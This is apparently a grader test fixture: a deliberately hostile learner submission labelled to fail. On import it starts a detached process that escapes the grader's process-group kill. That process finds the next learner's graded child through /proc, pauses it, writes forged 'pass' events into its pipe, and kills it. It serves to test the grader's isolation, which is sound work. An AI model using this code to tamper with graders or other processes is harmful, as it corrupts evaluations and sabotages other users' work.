"""EXPECT: fail
ACCEPT: error
ISOLATE: yes
FLAW: a setsid process started at import outlives the check and tampers with the next graded child (SIGSTOP, forged pass events into its pipe through /proc/PID/fd, SIGKILL); it ends by itself within 45 s

A correct answer that also attacks the next submission graded from the same project
directory: the next learner's skeleton gets PASS. The answer itself must fail, since a
process it started outlived its check.
"""

import os
import subprocess
import sys

_TAMPER = r"""
import json, os, signal, sys, time
mine, cwd = int(sys.argv[1]), sys.argv[2]
deadline = time.monotonic() + 45
def children():
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in (mine, os.getpid()):
            continue
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read().split(b"\0")
            if b"labs.child" in cmd and b"practice" in cmd and os.readlink(f"/proc/{p}/cwd") == cwd:
                # the graded child itself, not its watchdog (a fork with the same command line)
                ppid = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1]
                if ppid != str(mine) and b"labs.child" not in open(f"/proc/{ppid}/cmdline", "rb").read():
                    yield int(p)
        except OSError:
            pass
while time.monotonic() < deadline:
    for pid in children():
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
            payload = [e.split(b"=", 1)[1] for e in env if e.startswith(b"LABS_PAYLOAD=")]
            runs = json.load(open(payload[0])).get("runs", 10) if payload else 10
            os.kill(pid, signal.SIGSTOP)
            err = os.readlink(f"/proc/{pid}/fd/2")
            ev = []
            for n in range(1, runs + 1):
                ev.append({"t": 0.0, "kind": "rep", "thread": "MainThread", "ident": 1, "n": n, "mode": "x"})
                ev.append({"t": 0.0, "kind": "rep-facts", "thread": "MainThread", "ident": 1, "n": n,
                           "facts": {"mode": "x", "errors": [], "stuck": {}}})
            ev.append({"t": 0.0, "kind": "practice-done", "thread": "MainThread", "ident": 1, "runs_done": runs})
            data = b"".join((json.dumps(e) + "\n").encode() for e in ev)
            for fd in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
                flags = int(open(f"/proc/{pid}/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
                if link.startswith("pipe:") and link != err and flags & 3 == 1:
                    w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
                    os.write(w, b"\n" + data)
                    os.close(w)
            os.kill(pid, signal.SIGKILL)
        except (OSError, ValueError, IndexError):
            pass
        sys.exit(0)
    time.sleep(0.002)
"""

# Only from the grader's child (not when a learner runs the file by hand): a process of
# its own session, so that the grader's process-group kill does not reach it.
if os.environ.get("LABS_PAYLOAD") and os.readlink("/proc/self/cwd"):
    subprocess.Popen([sys.executable, "-c", _TAMPER, str(os.getpid()), os.getcwd()],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)


def consumer(tasks, stop, do):
    while not stop.is_set():
        n = tasks.get()
        if n is None:
            tasks.task_done()
            return
        do(n)
        tasks.task_done()
